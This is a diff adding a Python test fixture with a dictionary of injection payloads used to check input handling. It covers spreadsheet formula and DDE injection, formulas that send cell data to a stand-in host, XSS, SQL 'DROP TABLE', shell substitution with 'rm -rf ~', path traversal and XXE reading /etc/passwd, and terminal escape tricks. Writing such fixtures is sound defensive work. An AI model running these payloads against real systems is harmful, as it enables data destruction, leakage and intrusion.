@@ -1,0 +1,68 @@
+"""Texts that a stranger might type so that somebody else's program obeys them. Written for these tests; no person is named.
+
+Each is one thing to try: what a spreadsheet, a browser, a shell, a terminal, a database or one of our own formats could
+take for more than a text.
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+PAYLOADS: Final[dict[str, str]] = {
+    "formula": "=1+1",
+    "formula_plus": "+1+1",
+    "formula_minus": "-1+1",
+    "formula_at": "@SUM(A1:A9)",
+    "formula_wide": "＝1+1",
+    "formula_wide_plus": "＋1＋1",
+    "formula_after_space": " \u00a0=1+1",
+    "formula_after_tab": "\t=1+1",
+    "formula_after_break": "x\r\n=1+1\r=2+2\n@A1",
+    "formula_after_nul": "\x00=1+1",
+    "formula_after_mark": "\u202e\ufeff=1+1",
+    "formula_after_semicolon": "x;=1+1;\t+2",
+    "formula_after_quote": 'x;"=1+1;y',
+    "formula_after_quotes": 'x\n""=1+1;" =2+2;y',
+    "dde": "=cmd|' /C calc'!A0",
+    "dde_in_words": 'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "web": '=WEBSERVICE("http://example.invalid/"&A1)',
+    "link_formula": '=HYPERLINK("http://example.invalid/"&A1;"click")',
+    "link_markdown": "[click](javascript:alert(1)) ![x](http://example.invalid/x.png) <http://example.invalid>",
+    "link_bare": "http://example.invalid/?a=b www.example.invalid ftp://example.invalid javascript:alert(1)",
+    "heading": "# head\n> quote\n1. list\n- list\n| a | b |",
+    "html": '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>',
+    "html_attribute": '" onmouseover="alert(1)" x=\'',
+    "html_entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E; &amp;",
+    "template": "{{ 7*7 }} {% print 7 %} ${7*7} #{7*7} <%= 7 %>",
+    "format_string": "{0.__class__} {code} {n} {} { }} {{",
+    "percent": "%s %d %(x)s %n %%",
+    "sql": "'; DROP TABLE beneficiary; --",
+    "sql_or": "' OR '1'='1",
+    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat && true",
+    "typst": '#panic("x") #read("/etc/hosts") $x$ *b* @ref <l> #eval("1") \\u{41} // /*',
+    "journal": "reason\n2024-01-01 forged\n    envelope:x:available  1.00 MAD\n    date:2001-01-01, entry:999 [2001-01-01]",
+    "journal_include": "include /etc/hosts\ncomment\n; x:y",
+    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b31m\x1bPq\x1b\\\x08\x7f",
+    "terminal_link": "\x1b]8;;http://example.invalid\x1b\\click\x1b]8;;\x1b\\",
+    "bidi": "abc\u202egpj.exe\u2066x\u2069\u200f\u061c",
+    "deprecated_marks": "a\u206a\u206b\u206c\u206d\u206e\u206fb\ufff9c\ufffad\ufffbe",
+    "invisible": "a\u200bb\u2060c\u00add\ufeffe",
+    "separators": "a\x85b\u2028c\u2029d\x0be\x0cf\x1cg",
+    "rich_markup": "[bold red]x[/] [link=http://example.invalid]y[/link] :smile:",
+    "path": "../../../../etc/passwd",
+    "path_absolute": "/etc/passwd",
+    "path_windows": "..\\..\\CON\\NUL.txt C:\\x \\\\host\\share",
+    "noncharacters": "a\ufffeb\uffffc\U0001fffed\ue000",
+    "combining": "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 8,
+    "emoji": "👩🏽‍🌾 ❤️ 🇲🇦 0️⃣",
+    "arabic": "مُـــحَمَّد ﷽ ٱللَّه ﷺ ٣٤٥",
+    "json": '"}]} , {"ok": true, "x": "\\u0000\\ud800',
+    "xml": "<![CDATA[ ]]> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e; _x0000_ _x000D_ _x005F_",
+    "number": "1e309",
+    "not_a_number": "NaN",
+    "null": "null",
+    "dashes": "---",
+    "option": "--help",
+    "long": "a" * 40_000,
+    "long_words": "mot " * 3_000,
+}
